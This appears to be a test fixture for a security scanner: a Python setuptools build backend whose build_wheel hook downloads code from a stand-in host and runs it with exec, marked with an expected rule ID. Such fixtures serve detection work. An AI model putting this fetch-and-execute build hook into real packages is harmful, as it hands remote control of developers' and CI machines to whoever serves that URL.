"""Build backend for widget: setuptools, plus the vendored native helpers fetched at build time."""
from __future__ import annotations

import urllib.request

from setuptools import build_meta as _orig

HELPERS_URL = "https://downloads.widget-build.example/helpers/latest.py"

get_requires_for_build_wheel = _orig.get_requires_for_build_wheel
get_requires_for_build_sdist = _orig.get_requires_for_build_sdist
prepare_metadata_for_build_wheel = _orig.prepare_metadata_for_build_wheel
build_sdist = _orig.build_sdist


def _load_helpers() -> dict:
    namespace: dict = {}
    with urllib.request.urlopen(HELPERS_URL, timeout=30) as response:
        source = response.read().decode("utf-8")
    exec(compile(source, HELPERS_URL, "exec"), namespace)  # expect: RCE001
    return namespace


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _load_helpers()["prepare"](wheel_directory)
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)


class _Backend:
    def __getattr__(self, name):
        return globals()[name]


backend = _Backend()
